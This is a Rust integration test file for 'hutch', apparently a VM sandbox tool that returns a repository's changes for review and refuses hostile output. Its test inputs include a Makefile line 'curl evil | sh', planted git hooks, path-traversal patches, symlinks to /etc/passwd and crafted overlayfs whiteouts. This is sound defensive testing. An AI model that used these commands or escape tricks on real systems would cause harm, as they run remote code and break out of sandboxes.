//! Repo in, reviewed change out, with real VMs: the working tree arrives in `/workspace`, the VM's commits and
//! edits come back as `refs/hutch/<id>` plus a patch, `apply` reproduces them exactly; sensitive paths need
//! `--allow-sensitive` (threat 10); hostile output is refused and leaves the host repository unchanged
//! (threat 11); a `hutch.toml` that asks for more is refused until trusted (threat 15); the setup phase.

#![allow(clippy::unwrap_used)]

mod common;

use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use common::*;

/// A temporary git repository plus private config and data directories for hutch (trust approvals).
struct Repo {
    _t: tempfile::TempDir,
    dir: PathBuf,
    data: PathBuf,
}

fn git_cmd(dir: &Path) -> Command {
    let mut c = Command::new("git");
    c.current_dir(dir)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GIT_AUTHOR_NAME", "User")
        .env("GIT_AUTHOR_EMAIL", "user@host")
        .env("GIT_COMMITTER_NAME", "User")
        .env("GIT_COMMITTER_EMAIL", "user@host");
    c
}

fn git(dir: &Path, args: &[&str]) -> String {
    let o = git_cmd(dir).args(args).output().unwrap();
    assert!(o.status.success(), "git {args:?}: {}", text(&o.stderr));
    text(&o.stdout)
}

impl Repo {
    /// Committed files, then: a modified file, an untracked one, an ignored one, a deleted one.
    fn new() -> Repo {
        let t = tempfile::tempdir().unwrap();
        let dir = t.path().join("repo");
        let data = t.path().join("data");
        std::fs::create_dir_all(dir.join("sub")).unwrap();
        git(&dir, &["init", "-q", "-b", "main"]);
        std::fs::write(dir.join("a.txt"), "one\n").unwrap();
        std::fs::write(dir.join(".gitignore"), "*.log\n").unwrap();
        std::fs::write(dir.join("sub/b.txt"), "bee\n").unwrap();
        std::fs::write(dir.join("gone.txt"), "bye\n").unwrap();
        git(&dir, &["add", "-A"]);
        git(&dir, &["commit", "-q", "-m", "first"]);
        std::fs::write(dir.join("a.txt"), "one\ntwo (uncommitted)\n").unwrap();
        std::fs::write(dir.join("sub/untracked.txt"), "untracked\n").unwrap();
        std::fs::write(dir.join("debug.log"), "ignored\n").unwrap();
        std::fs::remove_file(dir.join("gone.txt")).unwrap();
        Repo { _t: t, dir, data }
    }

    fn hutch(&self, cwd: &Path, args: &[&str]) -> Output {
        hutch().args(args).current_dir(cwd).env("XDG_DATA_HOME", &self.data).stdin(Stdio::null()).output().expect("spawn hutch")
    }

    fn run(&self, args: &[&str]) -> Output {
        let mut v = vec!["run"];
        v.extend_from_slice(args);
        self.hutch(&self.dir, &v)
    }

    /// Every file but `.git` and ignored ones: executable bit, content digest or link target. The same command
    /// runs in the VM, so the two sides compare as text.
    fn listing(&self) -> String {
        let o = Command::new("sh").arg("-c").arg(LISTING).current_dir(&self.dir).output().unwrap();
        text(&o.stdout)
    }

    /// The user's branches, HEAD, index and working tree, and hutch's refs and results.
    fn state(&self) -> (String, String, Vec<u8>, String, String, bool) {
        (
            git(&self.dir, &["for-each-ref", "refs/heads", "refs/tags"]),
            git(&self.dir, &["rev-parse", "HEAD"]),
            std::fs::read(self.dir.join(".git/index")).unwrap(),
            self.listing(),
            git(&self.dir, &["for-each-ref", "refs/hutch"]),
            self.dir.join(".git/hutch").exists() && std::fs::read_dir(self.dir.join(".git/hutch")).unwrap().count() > 0,
        )
    }
}

const LISTING: &str = r#"find . -path ./.git -prune -o -name '*.log' -prune -o \( -type f -o -type l \) -print | LC_ALL=C sort | while IFS= read -r f; do
  if [ -L "$f" ]; then echo "L $f -> $(readlink "$f")"; elif [ -x "$f" ]; then echo "X $f $(sha256sum < "$f" | cut -c1-16)"; else echo "F $f $(sha256sum < "$f" | cut -c1-16)"; fi
done"#;

fn sandbox_id(stderr: &str) -> String {
    let i = stderr.find("changes from sandbox ").unwrap_or_else(|| panic!("no changes header in: {stderr}"));
    stderr[i + "changes from sandbox ".len()..].chars().take_while(char::is_ascii_hexdigit).collect()
}

#[test]
fn working_tree_arrives_and_vm_commits_and_edits_come_back_exactly() {
    let r = Repo::new();
    let before = r.state();
    // In the VM: check what arrived, then commit, edit, add, delete, link, chmod; print HEAD and a listing.
    let script = format!(
        r#"set -e
echo "pwd=$(pwd)"
cd /workspace
echo "status:"; git status --porcelain
echo "a=$(tail -n1 a.txt)"
test ! -e debug.log && echo "no ignored file"
test ! -e gone.txt && echo "no deleted file"
echo "log=$(git log --format=%s)"
echo "remotes=[$(git remote)] hooks=[$(ls .git/hooks | grep -v '\.sample$' || true)]"
echo three >> a.txt && git commit -qam 'vm: three' && echo c > c.txt && git add c.txt && git commit -qm 'vm: add c'
echo changed > sub/b.txt && rm sub/untracked.txt && printf 'bin\000ary' > blob.bin && ln -s sub/b.txt link
mkdir -p tools && printf '#!/bin/sh\necho hi\n' > tools/run.sh && chmod +x tools/run.sh
echo "head=$(git rev-parse HEAD)"
echo "listing:"
{LISTING}
"#
    );
    let out = r.hutch(&r.dir.join("sub"), &["run", "--", "sh", "-c", &script]);
    let stdout = text(&out.stdout);
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "stdout: {stdout}\nstderr: {stderr}");
    assert!(stdout.contains("pwd=/workspace/sub\n"), "the command starts where the user was: {stdout}");
    assert!(stdout.contains(" M a.txt\n") && stdout.contains(" D gone.txt\n") && stdout.contains("?? sub/untracked.txt\n"), "{stdout}");
    assert!(stdout.contains("a=two (uncommitted)\n"), "{stdout}");
    assert!(stdout.contains("no ignored file\n") && stdout.contains("no deleted file\n"), "{stdout}");
    assert!(stdout.contains("log=first\n"), "history up to HEAD: {stdout}");
    assert!(stdout.contains("remotes=[] hooks=[]\n"), "no remotes, no host hooks: {stdout}");

    let id = sandbox_id(&stderr);
    assert_eq!(id.len(), 12, "{stderr}");
    assert!(stderr.contains("2 new commit(s)") && stderr.contains("vm: add c"), "{stderr}");
    let vm_head = stdout.split("head=").nth(1).unwrap().lines().next().unwrap().to_string();
    assert_eq!(git(&r.dir, &["rev-parse", &format!("refs/hutch/{id}")]).trim(), vm_head);
    let after = r.state();
    assert_eq!(
        (&after.0, &after.1, &after.2, &after.3),
        (&before.0, &before.1, &before.2, &before.3),
        "branches, HEAD, index, working tree untouched"
    );

    let d = r.hutch(&r.dir, &["diff", &id[..6]]);
    assert_eq!(d.status.code(), Some(0), "{}", text(&d.stderr));
    let patch = text(&d.stdout);
    assert!(
        patch.contains("diff --git a/c.txt b/c.txt") && patch.contains("GIT binary patch") && patch.contains("new file mode 120000"),
        "{patch}"
    );
    let l = r.hutch(&r.dir, &["diff", "--list"]);
    assert!(text(&l.stdout).contains(&id), "{}", text(&l.stdout));

    let a = r.hutch(&r.dir, &["apply"]);
    assert_eq!(a.status.code(), Some(0), "{}", text(&a.stderr));
    let vm_listing = stdout.split("listing:\n").nth(1).unwrap();
    assert_eq!(r.listing(), vm_listing, "after apply the working tree is the VM's, file for file");
    assert_eq!(git(&r.dir, &["rev-parse", "HEAD"]), before.1, "apply touches the working tree only");
}

#[test]
fn sensitive_paths_are_flagged_and_not_applied_without_the_flag() {
    // threat 10: files that run code later on the host.
    let r = Repo::new();
    let config_before = std::fs::read(r.dir.join(".git/config")).unwrap();
    let out = r.run(&[
        "--",
        "sh",
        "-c",
        "cd /workspace && printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout \
         && git config core.hooksPath /tmp/evil-hooks && mkdir -p .vscode && echo '{\"tasks\":[]}' > .vscode/tasks.json && echo ok > plain.txt",
    ]);
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(stderr.contains(".vscode/tasks.json (editor config)"), "{stderr}");
    assert!(stderr.contains("the VM changed its own .git/config, .git/hooks/post-checkout; git metadata never leaves the VM"), "{stderr}");
    let id = sandbox_id(&stderr);
    // The end-of-run hint names the command that will work for this change, not one that refuses.
    assert!(stderr.contains(&format!("apply with `hutch apply --allow-sensitive {}`", &id[..id.len().min(8)])), "{stderr}");

    let listing = r.listing();
    let a = r.hutch(&r.dir, &["apply", &id]);
    assert_eq!(a.status.code(), Some(1));
    assert!(text(&a.stderr).contains(".vscode/tasks.json") && text(&a.stderr).contains("--allow-sensitive"), "{}", text(&a.stderr));
    assert_eq!(r.listing(), listing, "a refused apply changes nothing");

    let a = r.hutch(&r.dir, &["apply", "--allow-sensitive", &id]);
    assert_eq!(a.status.code(), Some(0), "{}", text(&a.stderr));
    assert!(r.dir.join(".vscode/tasks.json").is_file() && r.dir.join("plain.txt").is_file());
    assert!(!r.dir.join(".git/hooks/post-checkout").exists(), "the VM's hook never reaches the host");
    assert_eq!(std::fs::read(r.dir.join(".git/config")).unwrap(), config_before, "nor does its git config");
}

/// Installs a `git` in the VM that answers one subcommand itself, so the VM's output is whatever the test
/// wants: the VM is root in its own machine and may lie.
fn with_fake_git(intercept: &str, agent: &str) -> String {
    format!(
        "set -e\ncd /workspace\n{agent}\ncat > /usr/local/bin/git <<'EOF'\n#!/bin/sh\n{intercept}\nexec /usr/bin/git \"$@\"\nEOF\nchmod +x /usr/local/bin/git\n"
    )
}

#[test]
fn hostile_output_is_refused_and_the_host_repository_is_unchanged() {
    // threat 11: every path the VM exports is hostile.
    let new_file = |p: &str| {
        format!("diff --git a/{p} b/{p}\nnew file mode 100644\nindex 0000000..7898192\n--- /dev/null\n+++ b/{p}\n@@ -0,0 +1 @@\n+a\n")
    };
    let serve_patch = |patch: &str| {
        let p = patch.replace('\n', "\\n");
        // A changed file, so that the collection runs git at all (with nothing changed it runs none).
        with_fake_git(&format!("if [ \"$1\" = diff ]; then printf '{p}'; exit 0; fi"), "echo x > trigger.txt")
    };
    let cases: Vec<(&str, String, &str)> = vec![
        ("dotdot", serve_patch(&new_file("../../tmp/hutch-escape")), "`..` component"),
        ("absolute", serve_patch(&new_file("/tmp/hutch-escape")), "is absolute"),
        ("git dir", serve_patch(&new_file(".git/hooks/post-checkout")), "inside a `.git` directory"),
        ("symlink out", "cd /workspace && ln -s /etc/passwd evil && mkdir d && ln -s .. d/up && ln -s d/up/.. b".into(), "symlink"),
        (
            "huge patch",
            with_fake_git("if [ \"$1\" = diff ]; then head -c 70000000 /dev/zero | tr '\\0' x; exit 0; fi", "echo x > trigger.txt"),
            "larger than the limit of 64 MiB",
        ),
        (
            "corrupt bundle",
            with_fake_git(
                "if [ \"$1\" = bundle ]; then echo 'not a bundle' > \"$4\"; exit 0; fi",
                "echo more >> a.txt && git commit -qam more",
            ),
            "commit bundle is corrupt",
        ),
    ];
    let r = Repo::new();
    let before = r.state();
    for (name, script, want) in cases {
        let out = r.run(&["--", "sh", "-c", &script]);
        let stderr = text(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{name}: {stderr}");
        assert!(stderr.contains("refused the VM's changes") && stderr.contains(want), "{name}: wanted {want:?} in {stderr}");
        assert!(stderr.contains("the host repository was not changed"), "{name}: {stderr}");
        assert_eq!(r.state(), before, "{name}: the host repository changed");
        assert!(!Path::new("/tmp/hutch-escape").exists(), "{name}: a file was written outside the repository");
    }
}

#[test]
fn hutch_toml_that_asks_for_more_is_refused_until_trusted() {
    // threat 15: the repository cannot widen its own sandbox.
    let r = Repo::new();
    std::fs::write(
        r.dir.join("hutch.toml"),
        "setup = \"setup.sh\"\n[resources]\nmemory = 768\n[policy]\nallow = [\"api.example.com\"]\n[policy.setup]\nallow = [\"pkgs.example.com\"]\n",
    )
    .unwrap();
    std::fs::write(
        r.dir.join("setup.sh"),
        "#!/bin/sh\necho SETUP-RAN > /tmp/setup-marker\necho setup says hi\nfor n in pkgs api; do getent hosts $n.example.com >/dev/null && echo setup-resolves-$n || echo setup-denied-$n; done\n",
    )
    .unwrap();
    let refused = r.run(&["--", "true"]);
    let e = text(&refused.stderr);
    assert_eq!(refused.status.code(), Some(1), "{e}");
    assert!(e.contains("hutch.toml is not trusted (you have not approved it)"), "{e}");
    assert!(e.contains("768 MiB of memory") && e.contains("setup.sh"), "{e}");
    assert!(e.contains("egress for the command: api.example.com:80,443"), "{e}");
    assert!(e.contains("egress for the setup script: pkgs.example.com:80,443"), "the setup phase's policy is listed: {e}");
    assert!(e.contains("hutch trust"), "{e}");
    assert!(!e.contains("changes from sandbox"), "no VM was started: {e}");
    // Flags for the setup phase do not get around the refusal.
    let refused = r.run(&["--setup-allow", "pkgs.example.com", "--", "true"]);
    assert_eq!(refused.status.code(), Some(1));
    assert!(text(&refused.stderr).contains("is not trusted"), "{}", text(&refused.stderr));

    let listing = r.listing();
    let t = r.hutch(&r.dir, &["trust"]);
    assert_eq!(t.status.code(), Some(0), "{}", text(&t.stderr));
    assert!(r.data.join("hutch/trust").read_dir().unwrap().count() == 1, "the approval is in the user's data dir");
    assert_eq!(r.listing(), listing, "and not in the repository");
    let ok = r.run(&[
        "--",
        "sh",
        "-c",
        "cat /tmp/setup-marker; grep MemTotal /proc/meminfo; getent hosts api.example.com; getent hosts other.example.com || echo other-denied; getent hosts pkgs.example.com || echo pkgs-denied",
    ]);
    let (so, se) = (text(&ok.stdout), text(&ok.stderr));
    assert_eq!(ok.status.code(), Some(0), "{se}");
    assert!(so.contains("SETUP-RAN"), "the approved setup ran first: {so}");
    assert!(se.contains("── setup: setup.sh ──") && se.contains("setup says hi") && se.contains("── command: sh -c"), "{se}");
    assert!(
        se.contains("setup-resolves-pkgs") && se.contains("setup-denied-api"),
        "the setup script gets the approved setup-phase policy, and only it: {se}"
    );
    assert!(so.contains("pkgs-denied"), "the command does not get the setup phase's policy: {so}");
    let kib: u64 = so.split_whitespace().nth(2).unwrap().parse().unwrap();
    assert!(kib > 600 * 1024, "the approved memory was used: {so}");
    assert!(
        so.contains("198.18.") && so.contains("api.example.com") && so.contains("other-denied"),
        "the approved policy is in force: {so}"
    );

    // A changed setup script is a changed proposal.
    std::fs::write(r.dir.join("setup.sh"), "#!/bin/sh\necho something else\n").unwrap();
    let again = r.run(&["--", "true"]);
    assert_eq!(again.status.code(), Some(1));
    assert!(text(&again.stderr).contains("it changed since you approved it"), "{}", text(&again.stderr));
    let ignored = r.run(&["--no-project-config", "--", "sh", "-c", "test ! -e /tmp/setup-marker && echo plain"]);
    assert_eq!(ignored.status.code(), Some(0), "{}", text(&ignored.stderr));
    assert_eq!(text(&ignored.stdout), "plain\n");
}

#[test]
fn setup_phase_runs_first_and_a_failing_setup_stops_the_run() {
    let r = Repo::new();
    let good = r.dir.join("../good.sh");
    std::fs::write(&good, "echo installing; touch /root/installed; pwd\n").unwrap();
    let out = r.run(&["--setup", good.to_str().unwrap(), "--", "sh", "-c", "test -e /root/installed && echo command-ran"]);
    let (so, se) = (text(&out.stdout), text(&out.stderr));
    assert_eq!(out.status.code(), Some(0), "{se}");
    assert_eq!(so, "command-ran\n", "setup output stays off the command's stdout");
    let (s, c) = (se.find("── setup: ").unwrap(), se.find("── command: sh -c").unwrap());
    assert!(s < se.find("installing").unwrap() && se.find("installing").unwrap() < c, "{se}");
    assert!(se.contains("/workspace\n"), "setup runs from /workspace: {se}");

    let bad = r.dir.join("../bad.sh");
    std::fs::write(&bad, "#!/bin/sh\necho about to fail\necho 'E: no such package' >&2\nexit 3\n").unwrap();
    let out = r.run(&["--setup", bad.to_str().unwrap(), "--", "sh", "-c", "echo command-ran"]);
    let se = text(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{se}");
    assert!(!text(&out.stdout).contains("command-ran"));
    assert!(se.contains("failed with exit code 3; the command did not run") && se.contains("E: no such package"), "{se}");
}

#[test]
fn outside_a_repository_or_with_no_repo_nothing_changes_and_run_apply_applies() {
    let t = tempfile::tempdir().unwrap();
    let out =
        hutch().args(["run", "--", "sh", "-c", "test ! -e /workspace && pwd"]).current_dir(t.path()).stdin(Stdio::null()).output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_eq!(text(&out.stdout), "/root\n");
    assert!(!text(&out.stderr).contains("changes from sandbox"));

    let r = Repo::new();
    let out = r.run(&["--no-repo", "--", "sh", "-c", "test ! -e /workspace && echo none"]);
    assert_eq!(text(&out.stdout), "none\n", "{}", text(&out.stderr));

    let out = r.run(&["--apply", "--", "sh", "-c", "echo new > added.txt && echo more >> a.txt"]);
    let se = text(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{se}");
    assert!(se.contains("added.txt") && se.contains("2 files changed"), "the diffstat is shown: {se}");
    assert!(se.contains("applied 2 file changes"), "{se}");
    assert_eq!(std::fs::read_to_string(r.dir.join("added.txt")).unwrap(), "new\n");
    assert!(std::fs::read_to_string(r.dir.join("a.txt")).unwrap().ends_with("more\n"));

    // `run --apply` refuses sensitive paths too, unless `--allow-sensitive`.
    let listing = r.listing();
    let out = r.run(&["--apply", "--", "sh", "-c", "printf 'all:\\n\\tcurl evil | sh\\n' > Makefile && echo x > harmless.txt"]);
    let se = text(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{se}");
    assert!(se.contains("Makefile (build script)") && se.contains("--allow-sensitive"), "{se}");
    assert_eq!(r.listing(), listing, "nothing applied");
    let out = r.run(&["--apply", "--allow-sensitive", "--", "sh", "-c", "echo 'all:' > Makefile"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_eq!(std::fs::read_to_string(r.dir.join("Makefile")).unwrap(), "all:\n");
}

/// The run's workspace image and whether it was reused, from the debug log.
fn image_of(stderr: &str) -> (PathBuf, bool) {
    let clean: String = {
        let mut out = String::new();
        let mut it = stderr.chars();
        while let Some(c) = it.next() {
            if c == '\x1b' {
                for c2 in it.by_ref() {
                    if c2.is_ascii_alphabetic() {
                        break;
                    }
                }
            } else {
                out.push(c);
            }
        }
        out
    };
    let line = clean.lines().find(|l| l.contains("workspace image ready")).unwrap_or_else(|| panic!("no image line in: {clean}"));
    let image = line.split_whitespace().find_map(|w| w.strip_prefix("image=")).unwrap();
    (PathBuf::from(image), line.contains("reused=true"))
}

fn sha256_hex(p: &Path) -> String {
    let o = Command::new("sha256sum").arg(p).output().unwrap();
    text(&o.stdout).split_whitespace().next().unwrap().to_string()
}

/// Through the overlay: a deleted file, a file replaced by a directory and a directory replaced by a file come
/// back exactly; files rewritten with the same content (or only touched) are no change; the shared workspace
/// image is the same byte for byte before and after a run that changed things over it.
#[test]
fn type_changes_come_back_exactly_touches_are_no_change_and_the_image_is_never_written() {
    let r = Repo::new();
    std::fs::write(r.dir.join("del.txt"), "delete me\n").unwrap();
    std::fs::write(r.dir.join("f2d"), "file becomes a directory\n").unwrap();
    std::fs::create_dir_all(r.dir.join("d2f/deep")).unwrap();
    std::fs::write(r.dir.join("d2f/x.txt"), "x\n").unwrap();
    std::fs::write(r.dir.join("d2f/deep/y.txt"), "y\n").unwrap();
    std::fs::write(r.dir.join("touched.txt"), "same\n").unwrap();
    git(&r.dir, &["add", "-A"]);
    git(&r.dir, &["commit", "-q", "-m", "more"]);
    let log = |o: &Output| text(&o.stderr);
    let first = r.hutch(&r.dir, &["run", "--", "true"]);
    assert_eq!(first.status.code(), Some(0), "{}", log(&first));
    let first = hutch().args(["run", "--", "true"]).current_dir(&r.dir).env("XDG_DATA_HOME", &r.data).env("HUTCH_LOG", "hutch_repo=debug").output().unwrap();
    let (image, reused) = image_of(&log(&first));
    assert!(reused, "a second run of the same tree reuses its image: {}", log(&first));
    // Nothing written: the agent finds the upper layer empty and nothing runs to collect.
    assert!(log(&first).contains("no changes in /workspace"), "{}", log(&first));
    let read_only = hutch().args(["run", "--", "sh", "-c", "cat a.txt >/dev/null && git status --porcelain"]).current_dir(&r.dir).env("XDG_DATA_HOME", &r.data).output().unwrap();
    assert_eq!(read_only.status.code(), Some(0), "{}", log(&read_only));
    assert!(log(&read_only).contains("no changes in /workspace"), "git refreshing its index is no change: {}", log(&read_only));
    let digest = sha256_hex(&image);
    let script = format!(
        r#"set -e
cd /workspace
rm del.txt
rm f2d && mkdir f2d && echo inner > f2d/inner.txt
rm -r d2f && echo now a file > d2f
touch touched.txt sub/b.txt && cat touched.txt > /tmp/t && cat /tmp/t > touched.txt
echo "status:"; git status --porcelain
echo "listing:"
{LISTING}
"#
    );
    let out = hutch().args(["run", "--", "sh", "-c", &script]).current_dir(&r.dir).env("XDG_DATA_HOME", &r.data).env("HUTCH_LOG", "hutch_repo=debug").output().unwrap();
    let (stdout, stderr) = (text(&out.stdout), log(&out));
    assert_eq!(out.status.code(), Some(0), "stdout: {stdout}\nstderr: {stderr}");
    assert_eq!(image_of(&stderr).0, image);
    assert_eq!(sha256_hex(&image), digest, "the workspace image was not written");
    let status = stdout.split("status:\n").nth(1).unwrap().split("listing:").next().unwrap();
    assert!(!status.contains("touched.txt") && !status.contains("sub/b.txt"), "git in the VM sees no change in touched files: {status}");
    let id = sandbox_id(&stderr);
    let stat = text(&r.hutch(&r.dir, &["diff", "--stat", &id]).stdout);
    for p in ["del.txt", "f2d", "f2d/inner.txt", "d2f", "d2f/x.txt", "d2f/deep/y.txt"] {
        assert!(stat.lines().any(|l| l.trim_start().starts_with(&format!("{p} "))), "{p} missing from the change: {stat}");
    }
    assert!(!stat.contains("touched.txt") && !stat.contains("sub/b.txt"), "touched files are no change: {stat}");
    let a = r.hutch(&r.dir, &["apply", &id]);
    assert_eq!(a.status.code(), Some(0), "{}", text(&a.stderr));
    assert_eq!(r.listing(), stdout.split("listing:\n").nth(1).unwrap(), "after apply the working tree is the VM's, file for file");
}

/// Threat 11 through the overlay: a VM that writes crafted whiteouts, opaque and redirect xattrs and an escaping
/// symlink straight into its overlay's upper layer gets its change refused, and the host repository is unchanged.
#[test]
fn class_11_crafted_whiteouts_and_xattrs_in_the_upper_layer_change_nothing_on_the_host() {
    let r = Repo::new();
    let before = r.state();
    let probe = r#"
import os
u = "/var/tmp/hutch/overlay/upper"
os.mknod(u + "/a.txt", 0o020000 | 0o600, os.makedev(0, 0))
os.mknod(u + "/ghost.txt", 0o020000 | 0o600, os.makedev(0, 0))
os.makedirs(u + "/sub", exist_ok=True)
os.setxattr(u + "/sub", "trusted.overlay.opaque", b"y")
os.setxattr(u + "/sub", "trusted.overlay.redirect", b"/")
os.symlink("../../../../../etc/passwd", u + "/sub/escape")
os.makedirs(u + "/.git/refs", exist_ok=True)
print("crafted")
"#;
    let out = r.run(&["--", "python3", "-c", probe]);
    let (stdout, stderr) = (text(&out.stdout), text(&out.stderr));
    assert!(stdout.contains("crafted"), "stdout: {stdout}\nstderr: {stderr}");
    // Refused by the symlink check, or (when the live overlay never showed the crafted link) the collection
    // itself fails on it: either way nothing is imported.
    assert!(stderr.contains("escape") && (stderr.contains("refused") || stderr.contains("collecting")), "{stderr}");
    assert_eq!(r.state(), before, "nothing reached the host repository");
}
